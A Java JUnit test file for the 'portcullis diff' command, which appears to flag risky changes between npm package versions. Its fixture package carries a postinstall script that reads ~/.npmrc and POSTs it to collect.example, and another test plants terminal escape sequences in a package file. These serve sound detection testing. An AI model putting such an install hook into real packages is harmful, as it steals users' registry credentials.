package dev.portcullis.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.portcullis.engine.Environment;
import dev.portcullis.testkit.FakeRegistry;
import dev.portcullis.testkit.Fixtures;
import dev.portcullis.testkit.PublishedPackages;
import dev.portcullis.testkit.TarballBuilder;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * {@code portcullis diff} on the command line: a table of arguments, exit codes and what the output must say, against
 * real tarballs served on 127.0.0.1 and the real lockfiles of the fixtures.
 */
class DiffCliTest {
    @TempDir
    Path work;
    private FakeRegistry registry;

    record Run(int exit, String out, String err) {
    }

    @BeforeEach
    void setUp() throws IOException {
        PublishedPackages published = new PublishedPackages(Files.createDirectories(work.resolve("registry")));
        registry = FakeRegistry.start(published.dir());
        published.publish("left-align", "1.0.0", TarballBuilder.tarball()
                .file("package/package.json", "{\"name\":\"left-align\",\"version\":\"1.0.0\"}")
                .file("package/index.js", "module.exports = (s) => s.trimStart();\n").build());
        published.publish("left-align", "1.1.0", TarballBuilder.tarball()
                .file("package/package.json", "{\"name\":\"left-align\",\"version\":\"1.1.0\","
                        + "\"scripts\":{\"postinstall\":\"node setup.js\"}}")
                .file("package/index.js", "module.exports = (s) => s.trimStart();\n")
                .file("package/setup.js", "const fs = require('fs');\nconst os = require('os');\n"
                        + "const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
                        + "fetch('https://collect.example', {method: 'POST', body: t});\n").build());
        published.publish("left-align", "1.0.1", TarballBuilder.tarball()
                .file("package/package.json", "{\"name\":\"left-align\",\"version\":\"1.0.1\"}")
                .file("package/index.js", "module.exports = (s) => String(s).trimStart();\n").build());
    }

    @AfterEach
    void tearDown() {
        registry.close();
    }

    private Run diff(String... args) {
        List<String> all = new ArrayList<>(List.of("--registry", registry.url()));
        all.addAll(List.of(args));
        return diffWithout(all);
    }

    /** {@code diff} with these arguments and no registry of this test's own. */
    private Run diffWithout(List<String> args) {
        List<String> all = new ArrayList<>(List.of("diff"));
        all.addAll(args);
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        Environment environment = new Environment(Map.of("npm_config_globalconfig",
                work.resolve("no-global-npmrc").toString(), "npm_config_userconfig",
                work.resolve("no-user-npmrc").toString()), work.resolve("home"),
                Clock.fixed(Instant.parse("2026-11-22T12:00:00Z"), ZoneOffset.UTC), work.resolve("cache"));
        int exit = Main.run(environment, false, new PrintWriter(out), new PrintWriter(err), all.toArray(new String[0]));
        return new Run(exit, out.toString(), err.toString());
    }

    @ParameterizedTest(name = "{0} → exit {1}")
    @CsvSource(delimiter = ';', value = {
            "left-align@1.0.0 left-align@1.0.1; 0; ALLOWED  left-align 1.0.0 → 1.0.1",
            "left-align@1.0.0 left-align@1.1.0; 1; BLOCKED  left-align 1.0.0 → 1.1.0",
            "left-align@1.0.0 left-align@1.1.0 --format markdown; 1; | `left-align` | 1.0.0 → 1.1.0 | 🛑 **block** |",
            "left-align@1.0.0 left-align@1.1.0 --format json; 1; \"postinstall\"",
            "left-align@1.0.0 left-align@3; 2; no version of left-align matches '3' (latest is 1.0.1)",
            "left-align@1.0.0; 2; give two packages (FROM TO), --lockfile OLD NEW, or --base GIT_REF",
            "left-align@1.0.0 left-align@1.0.1 --base HEAD; 2; give two packages (FROM TO)",
            "a b --format cyclonedx; 2; unknown format 'cyclonedx' (expected text, json, sarif or markdown)",
    })
    void table(String args, int exit, String expected) {
        Run run = diff(args.split(" "));
        assertThat(run.exit()).as(run.out() + run.err()).isEqualTo(exit);
        assertThat(run.out() + run.err()).contains(expected).doesNotContain("Exception");
        if (!args.contains("json")) {
            // "null" in a message is a defect; /dev/null names the absent side of a unified diff
            assertThat(run.out() + run.err()).doesNotContainPattern("(?<!/dev/)null");
        }
    }

    @Test
    void textShowsTheUnifiedDiffAndTheCapabilityWithItsLine() {
        Run run = diff("left-align@1.0.0", "left-align@1.1.0");
        assertThat(run.out()).contains("    postinstall added: node setup.js")
                .contains("    + network  setup.js:4  fetch (new to the package)")
                .contains("    A setup.js (").contains("      +++ b/setup.js")
                .contains("[CRITICAL] content/credential-exfiltration");
    }

    @Test
    void lockfilesOfTwoFormats_offlineAfterAWarmRun_giveTheSameReport() throws IOException {
        try (FakeRegistry recorded = FakeRegistry.start(Fixtures.path("registry"))) {
            String[] args = {"--format", "json", "--lockfile", Fixtures.path("yarn-classic/empty/yarn.lock").toString(),
                    Fixtures.path("bun/one-package-v2/bun.lock").toString()};
            List<String> online = new ArrayList<>(List.of("--registry", recorded.url()));
            online.addAll(List.of(args));
            Run warm = diffWithout(online);
            List<String> offline = new ArrayList<>(online);
            offline.add("--offline");
            Run cached = diffWithout(offline);
            assertThat(warm.exit()).as(warm.err()).isZero();
            assertThat(cached.exit()).as(cached.err()).isZero();
            assertThat(cached.out()).contains("\"name\" : \"is-number\"").contains("\"change\" : \"added\"");
            assertThat(cached.out().replaceAll("\"unchecked\"[^\\]]*\\]", ""))
                    .isEqualTo(warm.out().replaceAll("\"unchecked\"[^\\]]*\\]", ""));
        }
    }

    @Test
    void terminalEscapesInAPackageAreShownNotObeyed() throws IOException {
        for (String version : List.of("1.0.0", "1.0.1")) {
            Path dir = Files.createDirectories(work.resolve("pkg-" + version));
            Files.writeString(dir.resolve("package.json"), "{\"name\":\"p\",\"version\":\"" + version + "\"}");
            Files.writeString(dir.resolve("notes.txt"), version.equals("1.0.0") ? "hello\n"
                    : "hello\n\u001b[2J\u001b]0;owned\u0007\n");
        }
        Run run = diff(work.resolve("pkg-1.0.0").toString(), work.resolve("pkg-1.0.1").toString());
        assertThat(run.exit()).as(run.err()).isZero();
        assertThat(run.out()).doesNotContain("\u001b").contains("+\\u001b[2J\\u001b]0;owned\\u0007");
    }
}
